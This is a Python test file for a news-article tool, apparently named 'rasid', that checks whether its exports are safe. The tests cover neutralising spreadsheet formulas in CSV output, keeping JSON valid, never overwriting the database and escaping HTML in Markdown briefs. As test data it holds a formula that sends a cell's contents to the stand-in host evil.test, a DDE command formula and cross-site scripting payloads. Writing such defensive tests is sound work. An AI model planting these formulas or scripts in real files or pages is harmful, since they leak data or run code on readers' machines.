"""Exports are safe to open: no live spreadsheet formulas, JSON that parses whatever the text
holds, a file replaced only once complete, never written over the database, and briefs whose
Markdown shows article text as text."""

from __future__ import annotations

import csv
import io
import json
import sqlite3

from rasid.model import Article
from rasid.pipeline.identify import assign_identity
from rasid.storage.sqlite import SQLiteStore

FORMULAS = ['=HYPERLINK("http://evil.test/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(A1)",
            "\tleading tab", "\rleading return"]


def _store_articles(db, articles) -> None:
    with SQLiteStore(db) as store:
        store.add_articles([assign_identity(a) for a in articles])


def _article(origin, text, **fields) -> Article:
    return Article(origin=origin, raw_text=text, text=text, language="ar", **fields)


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(rasid, tmp_path):
    db = tmp_path / "rasid.db"
    _store_articles(db, [_article(f"page{i}", f"{formula} نص الخبر", title=formula, author=formula, outlet=formula)
                         for i, formula in enumerate(FORMULAS)] + [_article("plain", "قمة في موسكو", title="قمة في موسكو")])
    done = rasid("export", "--format", "csv", db=db)
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(done.stdout)))
    assert len(rows) == len(FORMULAS) + 1
    for row in rows:
        for column in ("title", "author", "outlet", "text"):
            value = row[column]
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
    titles = {row["title"] for row in rows}
    assert "'" + FORMULAS[0] in titles and "قمة في موسكو" in titles  # the text itself is kept, only prefixed


def test_json_and_jsonl_stay_valid_with_any_control_character(rasid, tmp_path):
    db = tmp_path / "rasid.db"
    nasty = "".join(chr(c) for c in range(32)) + "\x7f\u2028\u2029\u202e" + '"\\'
    _store_articles(db, [_article("page", f"بداية {nasty} نهاية", title=nasty, outlet=nasty)])
    for fmt in ("json", "jsonl"):
        done = rasid("export", "--format", fmt, db=db)
        assert done.returncode == 0, done.stderr
        records = [json.loads(done.stdout)["articles"][0]] if fmt == "json" else \
            [json.loads(line) for line in done.stdout.splitlines() if '"type": "article"' in line]
        assert records[0]["title"] == nasty and records[0]["text"] == f"بداية {nasty} نهاية"
    out = tmp_path / "export.json"
    assert rasid("export", "-o", str(out), db=db).returncode == 0
    assert json.loads(out.read_text(encoding="utf-8"))["articles"][0]["outlet"] == nasty


def test_export_never_writes_over_the_database_it_reads(rasid, tmp_path, seeds):
    db = tmp_path / "rasid.db"
    assert rasid("ingest", str(seeds), db=db).returncode == 0
    size = db.stat().st_size
    (tmp_path / "link.db").symlink_to(db)
    for target in (db, tmp_path / "link.db", tmp_path / "rasid.db-wal", tmp_path / "." / "rasid.db"):
        done = rasid("export", "--format", "csv", "-o", str(target), db=db)
        assert done.returncode == 2 and "which this command reads" in done.stderr, done.stderr
        assert len(done.stderr.strip().splitlines()) == 1
    assert db.stat().st_size == size
    with sqlite3.connect(db) as check:
        assert check.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        assert check.execute("SELECT COUNT(*) FROM articles").fetchone()[0] == 5


def test_an_interrupted_export_leaves_the_previous_file_whole(rasid, tmp_path, seeds):
    db = tmp_path / "rasid.db"
    assert rasid("ingest", str(seeds), db=db).returncode == 0
    out = tmp_path / "export.json"
    assert rasid("export", "-o", str(out), db=db).returncode == 0
    previous = out.read_bytes()
    killed = rasid("export", "-o", str(out), db=db, env={"RASID_FAULT": "export.after_record@2"})
    assert killed.returncode == -9  # SIGKILLed with two records written
    assert out.read_bytes() == previous
    assert json.loads(previous)["articles"]
    fresh = tmp_path / "new.json"
    rasid("export", "-o", str(fresh), db=db, env={"RASID_FAULT": "export.after_record@2"})
    assert not fresh.exists()  # never half a file at the target


def test_a_markdown_brief_escapes_html_from_article_text(rasid, tmp_path):
    page = ("قال المتحدث باسم الوزارة إن الاجتماع <script>alert('x')</script> سيعقد في موسكو الأسبوع المقبل. "
            "وأضاف أن الوفد <img src=x onerror=alert(1)> سيضم وزراء الخارجية والدفاع. "
            "وقال المتحدث: «لن نقبل بأي شروط مسبقة [انقر](javascript:alert(1))».")
    source = tmp_path / "pages.jsonl"
    source.write_text("\n".join(json.dumps({"url": f"http://site{i}.test/a", "title": f"اجتماع موسكو <b>{i}</b>",
                                            "content": page, "date": "2024-06-17"}, ensure_ascii=False)
                                for i in range(2)), encoding="utf-8")
    db = tmp_path / "rasid.db"
    assert rasid("run", str(source), db=db).returncode == 0
    story = json.loads(rasid("export", db=db).stdout)["stories"][0]["id"]
    brief = rasid("brief", story, "--format", "md", db=db)
    assert brief.returncode == 0, brief.stderr
    assert "<script" not in brief.stdout and "<img" not in brief.stdout and "<b>" not in brief.stdout
    assert "[انقر](" not in brief.stdout and "\\[انقر\\](javascript" in brief.stdout  # no link made of it
    assert "&lt;script&gt;" in brief.stdout or "&lt;img" in brief.stdout
